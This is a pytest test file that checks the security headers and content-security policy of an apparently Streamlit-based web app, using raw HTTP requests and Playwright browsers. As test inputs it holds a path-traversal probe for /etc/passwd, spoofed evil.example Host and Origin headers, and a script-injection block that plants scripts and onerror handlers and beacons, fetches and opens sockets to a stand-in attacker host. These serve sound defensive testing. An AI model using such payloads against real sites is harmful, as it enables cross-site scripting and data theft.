"""What every answer says to a browser, and that every page works under it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, expect

from app.serving.content_policy import content_policy
from tests.app.api.conftest import log_everything
from tests.security.chromium import another_server, unprotected, watched
from tests.security.raw_http import get, open_websocket, port_of, send
from tests.support import PATIENCE_S, ROOT, serving_app, wait_until

EXPECTED = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}
PAGES = ["", *sorted(path.stem for path in (ROOT / "pages").glob("[!_]*.py"))]


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Of the real app over two runs that have everything, all of it read."""
    directory = tmp_path_factory.mktemp("headers")
    for name in ("run", "other"):
        log_everything(directory / name)
    flags = ["--set", f'runs=["{directory / "other"}"]']
    with serving_app(directory / "run", directory / "app.log", *flags) as served:

        def has_read() -> bool:
            asked = httpx.get(f"{served}/api/preview/history", timeout=PATIENCE_S)
            return asked.status_code == 200

        wait_until(has_read, 60, "all that was logged")
        yield served


def directives(policy: str) -> dict[str, list[str]]:
    parts = (part.split() for part in policy.split(";"))
    return {name: values for name, *values in parts}


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/previews",
        "/nothing/at/all",
        "/api/status/live",
        "/api/preview/export?format=csv",
        "/api/nothing",
        "/api/docs",
        "/api/preview/history?limit=abc",
        "/metrics",
        "/health",
        "/status/training_status.json",
        "/_stcore/health",
        "/_stcore/upload_file/a/b",
        "/_stcore/agent/openapi.json",
        "/media/nothing",
        "/favicon.png",
        "/../../etc/passwd",
    ],
)
def test_every_answer_carries_them(address: str, path: str) -> None:
    port = port_of(address)
    for method in ("GET", "HEAD", "OPTIONS", "POST", "PUT", "DELETE", "NOTHING"):
        headers = [f"Host: localhost:{port}", "Content-Length: 0", "Connection: close"]
        answer = send(port, f"{method} {path} HTTP/1.1", headers)
        found = {name: answer.headers.get(name) for name in EXPECTED}
        assert found == EXPECTED, (method, answer)
        policy = directives(answer.headers["content-security-policy"])
        assert policy["default-src"] == ["'none'"]
        assert policy["frame-ancestors"] == ["'none'"]
        assert policy["base-uri"] == policy["form-action"] == policy["connect-src"] == ["'self'"]
        assert "object-src" not in policy, "the default is none"
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*"} & set(policy["script-src"])
        sources = {source for values in policy.values() for source in values}
        assert not [each for each in sources if "//" in each or each in ("http:", "https:", "*")]


def test_refusals_carry_them_too(address: str) -> None:
    port = port_of(address)
    for answer in (
        get(port, "/", "Host: evil.example"),
        get(port, "/"),
        open_websocket(port, "Host: evil.example"),
        open_websocket(port, f"Host: localhost:{port}", "Origin: http://evil.example"),
    ):
        if answer.headers.get("server") == "uvicorn" or answer.status != 400:
            assert {name: answer.headers.get(name) for name in EXPECTED} == EXPECTED, answer
            assert answer.headers["content-type"].startswith("text/plain")


def test_the_documentation_is_the_same_whoever_asked_before(address: str) -> None:
    for packing in ("gzip", "identity", "gzip", "identity"):
        answer = httpx.get(f"{address}/api/docs", headers={"Accept-Encoding": packing})
        assert answer.headers.get("content-encoding", packing) == packing
        assert len(answer.headers.get_list("content-security-policy")) == 1
        assert "swagger-ui-bundle.js" in answer.text


def test_an_inline_script_is_allowed_by_what_it_says_alone() -> None:
    page = b"<script>one()</script><script src='x.js'></script><SCRIPT>two()</SCRIPT>"
    allowed = directives(content_policy(page))["script-src"]
    assert allowed[:2] == ["'self'", "'wasm-unsafe-eval'"]
    assert [source[:8] for source in allowed[2:]] == ["'sha256-", "'sha256-"]
    assert "'sha256-" not in content_policy(b"<p>no script</p>")


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", PAGES)
def test_every_page_works_under_its_policy(
    browser: Browser, address: str, name: str, scheme: str
) -> None:
    color = "dark" if scheme == "dark" else "light"
    with browser.new_context(color_scheme=color) as context:  # type: ignore[arg-type]  # a literal
        page = context.new_page()
        against = watched(page)
        page.goto(f"{address}/{name}")
        expect(page.get_by_test_id("stApp")).to_have_attribute(
            "data-test-script-state", "notRunning"
        )
        expect(page.locator(".cr").first).to_be_attached()
        expect(page.get_by_test_id("stException")).to_have_count(0)
        page.wait_for_load_state("networkidle")
        for chart in page.get_by_test_id("stPlotlyChart").all():
            expect(chart.locator(".main-svg").first).to_be_attached()
        for table in page.get_by_test_id("stDataFrame").all():
            expect(table.locator("canvas").first).to_be_attached()
        assert against == []


@pytest.mark.browser
def test_charts_tables_and_downloads_work_under_it(
    browser: Browser, address: str, tmp_path: Path
) -> None:
    with browser.new_context(accept_downloads=True) as context:
        page = context.new_page()
        against = watched(page)
        page.goto(f"{address}/analytics")
        expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible()
        with page.expect_download() as downloading:
            page.get_by_test_id("stDownloadButton").first.get_by_role("button").click()
        target = tmp_path / "chart.csv"
        downloading.value.save_as(target)
        assert target.stat().st_size > 0
        page.goto(f"{address}/previews")
        table = page.get_by_test_id("stDataFrame").first
        expect(table.locator("canvas").first).to_be_visible()
        table.hover()
        link = page.locator("a[href*='/api/preview/export']").first
        if link.count():
            with page.expect_download() as downloading:
                link.click()
            assert downloading.value.failure() is None
        assert against == []


@pytest.mark.browser
def test_the_documentation_works_under_its_policy(browser: Browser, address: str) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        against = watched(page)
        page.goto(f"{address}/api/docs")
        expect(page.get_by_text("/api/status/live", exact=True).first).to_be_visible()
        page.get_by_text("/api/status/live", exact=True).first.click()
        page.get_by_role("button", name="Try it out").first.click()
        page.get_by_role("button", name="Execute").first.click()
        status = page.locator(".live-responses-table tbody .response-col_status")
        expect(status.first).to_contain_text("200")
        page.wait_for_load_state("networkidle")
        assert against == []


@pytest.mark.browser
def test_what_slips_into_a_page_loads_and_runs_nothing(browser: Browser, address: str) -> None:
    made = """async elsewhere => {
        const add = (name, what) => {
            const made = Object.assign(document.createElement(name), what);
            document.body.append(made);
            return made;
        };
        add('img', {src: elsewhere + '/pixel.png'});
        add('script', {src: elsewhere + '/script.js'});
        add('script', {text: 'window.owned = 1'});
        add('iframe', {src: elsewhere});
        add('object', {data: elsewhere});
        add('link', {rel: 'stylesheet', href: elsewhere + '/style.css'});
        add('video', {src: elsewhere + '/video.mp4'});
        add('style', {textContent: `@font-face {font-family: x; src: url(${elsewhere}/font)}
            body {font-family: x; background: url(${elsewhere}/background.png)}`});
        add('img', {src: 'nothing', onerror: null});
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.owned = 2">');
        add('a', {id: 'x', href: 'javascript:window.owned = 3'}).click();
        await fetch(elsewhere + '/fetch').catch(() => 0);
        navigator.sendBeacon(elsewhere + '/beacon', 'x');
        await new Promise(resolve => {
            const socket = new WebSocket(elsewhere.replace('http', 'ws'));
            socket.onopen = socket.onerror = resolve;
        }).catch(() => 0);
        await new Promise(resolve => setTimeout(resolve, 500));
    }"""
    with another_server() as other, unprotected(browser, "evil.example") as fooled:
        page = fooled.new_page()
        page.goto(address)
        expect(page.get_by_test_id("stApp")).to_be_visible()
        page.evaluate(made, f"http://evil.example:{other.port}")
        assert page.evaluate("window.owned") is None
        assert other.asked == []
        page.goto(f"http://evil.example:{other.port}/itself")
        assert other.asked[0] == "/itself", "it would have been seen"
